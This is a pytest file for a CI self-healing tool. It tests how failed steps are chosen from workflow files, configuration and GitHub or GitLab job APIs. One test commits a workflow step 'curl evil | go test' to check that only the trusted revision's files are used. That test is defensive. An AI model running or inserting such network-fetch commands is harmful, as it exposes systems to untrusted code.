"""Which steps are healed where nobody, or not everybody, says so."""

from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path

import pytest

from selfheal_ci.ci import Ci, read_ci
from selfheal_ci.config import Configuration
from selfheal_ci.errors import UsageError
from selfheal_ci.store import open_store
from selfheal_ci.wiring.choosing import chosen
from selfheal_ci.wiring.reading import find_source, read_configuration
from tests.builders import Files, a_repository, commit, git, put
from tests.jobs_api import serving

WORKFLOW = "on: push\njobs:\n  lint: {runs-on: x, steps: [{run: make lint}]}\n  unit: {runs-on: x, steps: [{run: %s}]}\n"
CI = ".github/workflows/ci.yml"
PROJECT: Files = {CI: WORKFLOW % "go test", "Makefile": "lint:\n\tgofmt -l .\n"}
BROKEN = {"jobs": [{"name": "unit", "conclusion": "failure", "steps": [{"name": "Run go test", "conclusion": "failure"}]}]}


def choose(
    project: Path, ci: Ci | None = None, environ: Mapping[str, str] | None = None, *command: str, **asked: object
) -> tuple[Configuration, list[tuple[str, str]], list[str]]:
    """The configuration, the steps, and what is warned of."""
    said: list[str] = []
    asked = {"source": str(project), **asked}
    with open_store(project, project.parent / f"store-{len(list(project.parent.iterdir()))}") as store:
        configuration = read_configuration(store, asked, ci)
        source = find_source(store, configuration.settings, ci)
        configuration, steps = chosen(configuration, command, source, store, ci=ci, environ=environ or {}, warn=said.append)
    return configuration, [(step.name, step.run) for step in steps], said


def test_nothing_configured_means_what_the_ci_does(tmp_path: Path) -> None:
    project = a_repository(tmp_path / "project", PROJECT)

    configuration, steps, said = choose(project)

    assert steps == [("lint", "make lint"), ("unit", "go test")]
    assert configuration.settings.setup == ("{ go mod download; } || true",)
    assert said == [
        f"nothing is configured: taking lint ({CI}:3), unit ({CI}:4); `selfheal init` writes it down",
    ]


def test_only_what_the_step_needs_is_set_up(tmp_path: Path) -> None:
    project = a_repository(tmp_path / "project", PROJECT)

    configuration, steps, said = choose(project, step="lint")

    assert (steps, configuration.settings.setup) == ([("lint", "make lint")], ())
    assert said == [f"nothing is configured: taking lint ({CI}:3); `selfheal init` writes it down"]


def test_an_unknown_step_is_told_in_words(tmp_path: Path) -> None:
    with pytest.raises(UsageError) as wrong:
        choose(a_repository(tmp_path / "project", PROJECT), step="lnt")

    assert (wrong.value.message, wrong.value.hint) == ("there is no step 'lnt' in no configuration", "did you mean `lint`?")


def test_an_environment_that_is_there_is_used(tmp_path: Path) -> None:
    project = a_repository(tmp_path / "project", {**PROJECT, "tests/test_a.py": "", ".gitignore": ".venv\n"})
    put(project, {".venv/bin/python": ""})

    configuration, steps, said = choose(project)

    assert steps == [("tests", ".venv/bin/python -m pytest")]
    assert configuration.settings.setup == ()
    assert said == ["no steps are configured: taking the usual command, .venv/bin/python -m pytest"]


def test_an_environment_that_is_active_is_used(tmp_path: Path) -> None:
    project = a_repository(tmp_path / "project", {**PROJECT, "tests/test_a.py": ""})

    assert choose(project, None, {"VIRTUAL_ENV": "/somewhere"})[1] == [("tests", "python -m pytest")]


def test_an_environment_of_another_language_says_nothing(tmp_path: Path) -> None:
    project = a_repository(tmp_path / "project", PROJECT)

    assert choose(project, None, {"VIRTUAL_ENV": "/somewhere"})[1] == [("lint", "make lint"), ("unit", "go test")]


def test_a_command_or_a_configuration_is_never_added_to(tmp_path: Path) -> None:
    project = a_repository(tmp_path / "project", PROJECT)

    assert choose(project, None, None, "go", "vet")[1:] == ([("command", "go vet")], [])
    put(project, {".selfheal.toml": "[steps.mine]\nrun = 'x'\n"})
    assert choose(project)[1:] == ([("mine", "x")], [])


def test_in_ci_the_trusted_revisions_files_count(tmp_path: Path) -> None:
    project = a_repository(tmp_path / "project", PROJECT)
    trusted = git(project, "rev-parse", "HEAD")
    commit(project, {CI: WORKFLOW % "curl evil | go test"})

    _, steps, _ = choose(project, Ci("github", "new", trusted))

    assert steps == [("lint", "make lint"), ("unit", "go test")]


# ---------------------------------------------------------------------------------------------------------------------
# The step that failed


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return a_repository(tmp_path / "project", PROJECT)


def of_github(project: Path, url: str, **more: str) -> tuple[Ci | None, dict[str, str]]:
    event = {"before": git(project, "rev-parse", "HEAD"), "workflow_run": {"id": 99, "run_attempt": 3, "path": CI}}
    put(project.parent, {"event.json": json.dumps(event)})
    environ = {
        "GITHUB_ACTIONS": "true", "GITHUB_EVENT_PATH": str(project.parent / "event.json"), "GITHUB_REF_NAME": "main",
        "GITHUB_REPOSITORY": "o/r", "GITHUB_RUN_ID": "17", "GITHUB_RUN_ATTEMPT": "1", "GITHUB_TOKEN": "read-token",
        "GITHUB_API_URL": url, "GITHUB_WORKFLOW_REF": f"o/r/{CI}@refs/heads/main", **more,
    }  # fmt: skip
    return read_ci(environ), environ


def test_on_github_the_step_that_failed_is_healed(project: Path) -> None:
    with serving(BROKEN) as api:
        _, steps, said = choose(project, *of_github(project, api.url))

    assert steps == [("unit", "go test")]
    assert said[0].startswith(f"nothing is configured: taking unit ({CI}:4)")
    assert api.asked[0][0].startswith("/repos/o/r/actions/runs/17/attempts/1/jobs")


def test_a_workflow_that_another_starts_asks_for_the_other(project: Path) -> None:
    with serving(BROKEN) as api:
        choose(project, *of_github(project, api.url, GITHUB_EVENT_NAME="workflow_run"))

    assert api.asked[0][0].startswith("/repos/o/r/actions/runs/99/attempts/3/jobs")


def test_a_configured_step_is_found_by_its_command_line(project: Path) -> None:
    trusted = commit(project, {".selfheal.toml": "[steps.a]\nrun = 'x'\n[steps.b]\nrun = 'cd . && go test'\n"})
    with serving(BROKEN) as api:
        ci, environ = of_github(project, api.url)
        _, steps, said = choose(project, ci, environ)

    assert ci is not None
    assert ci.trusted == trusted
    assert (steps, said) == ([("b", "cd . && go test")], [])


@pytest.mark.parametrize(
    ("answer", "said"),
    [
        ((500, {}), "127.0.0.1 does not say which step failed: HTTP 500: trying all steps in order"),
        ({"jobs": [{"name": "deploy\n", "conclusion": "failure", "steps": [{"name": "x", "conclusion": "failure"}]}]},
         "what failed (deploy / x) is no configured step: trying all in order"),
    ],
)  # fmt: skip
def test_where_nobody_can_tell_all_steps_are_tried(project: Path, answer: object, said: str) -> None:
    with serving(answer) as api:
        _, steps, warned = choose(project, *of_github(project, api.url))

    assert len(steps) == 2
    assert warned[0] == said


def test_a_step_that_is_named_wins_and_nobody_is_asked(project: Path) -> None:
    with serving(BROKEN) as api:
        _, steps, _ = choose(project, *of_github(project, api.url), step="lint")

    assert steps == [("lint", "make lint")]
    assert api.asked == []


def test_without_a_token_nobody_is_asked(project: Path) -> None:
    with serving(BROKEN) as api:
        _, steps, said = choose(project, *of_github(project, api.url, GITHUB_TOKEN=""))

    assert (len(steps), len(said), api.asked) == (2, 1, [])


def test_on_gitlab_the_job_that_failed_is_healed(tmp_path: Path) -> None:
    project = a_repository(
        tmp_path / "project", {".gitlab-ci.yml": "lint: {script: [make lint]}\nunit: {script: [go test]}\n"}
    )
    with serving([{"name": "unit 1/2"}]) as api:
        environ = {
            "GITLAB_CI": "true", "CI_COMMIT_BRANCH": "main", "CI_COMMIT_BEFORE_SHA": git(project, "rev-parse", "HEAD"),
            "CI_API_V4_URL": f"{api.url}/api/v4", "CI_PROJECT_ID": "7", "CI_PIPELINE_ID": "9", "GITLAB_TOKEN": "read-token",
            "CI_SERVER_URL": "https://gitlab.com",
        }  # fmt: skip
        _, steps, _ = choose(project, read_ci(environ), environ)

    assert steps == [("unit", "go test")]
